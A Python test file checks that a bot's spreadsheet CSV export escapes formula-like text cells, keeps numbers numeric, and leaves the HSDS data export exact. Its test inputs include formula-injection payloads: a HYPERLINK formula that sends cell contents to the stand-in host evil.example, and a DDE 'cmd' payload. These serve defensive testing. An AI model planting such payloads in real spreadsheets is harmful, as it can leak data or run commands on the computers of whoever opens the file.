"""CSV for spreadsheets: no text cell is ever read as a formula; numbers stay numbers; the HSDS
export, which is data for other programs, stays exact."""
import csv
import io

from bot.spreadsheet import spreadsheet_cell, write_spreadsheet_csv
from tests.bot.handoff.conftest import roster  # noqa: F401 (fixture)


def test_text_that_a_spreadsheet_would_run_is_written_as_text():
    for formula in ('=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
                    "\t=1+1", "\r=1+1"):
        assert spreadsheet_cell(formula) == "'" + formula
    assert spreadsheet_cell("naloxone, 98104") == "naloxone, 98104"
    assert spreadsheet_cell(["=1+1", "moud"]) == "'=1+1,moud"
    assert spreadsheet_cell(-122.3321) == -122.3321 and spreadsheet_cell(0) == 0 and spreadsheet_cell(None) == ""


def test_a_whole_file_reads_back_as_text():
    handle = io.StringIO()
    write_spreadsheet_csv(handle, ["ref", "area", "count"], [{"ref": "H-1234", "area": "=1+1", "count": -3}])
    assert list(csv.reader(io.StringIO(handle.getvalue()))) == [["ref", "area", "count"], ["H-1234", "'=1+1", "-3"]]


def test_the_handoffs_download_escapes_formulas(roster, capsys):
    from bot.cli import main
    from bot.db import session_scope
    from bot.handoff import engine

    with session_scope() as session:
        engine.create_handoff(session, source="community", person_key="h" + "3" * 40, consent_by="person",
                              consent_text="yes", area='=HYPERLINK("http://evil.example","98104")')
    capsys.readouterr()
    assert main(["handoffs", "--csv"]) == 0
    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    assert len(rows) == 1 and rows[0]["area"] == '\'=HYPERLINK("http://evil.example","98104")'
    assert rows[0]["ref"].startswith("H-") and rows[0]["state"]


def test_the_hsds_export_keeps_negative_longitudes_as_numbers(demo_db, tmp_path):
    from bot.db import session_scope
    from bot.directory.exporter import export_package

    with session_scope() as session:
        export_package(session, tmp_path / "out")
    with open(tmp_path / "out" / "locations.csv", newline="", encoding="utf-8") as handle:
        longitudes = [row["longitude"] for row in csv.DictReader(handle) if row["longitude"]]
    assert longitudes and all(float(value) < 0 and not value.startswith("'") for value in longitudes)
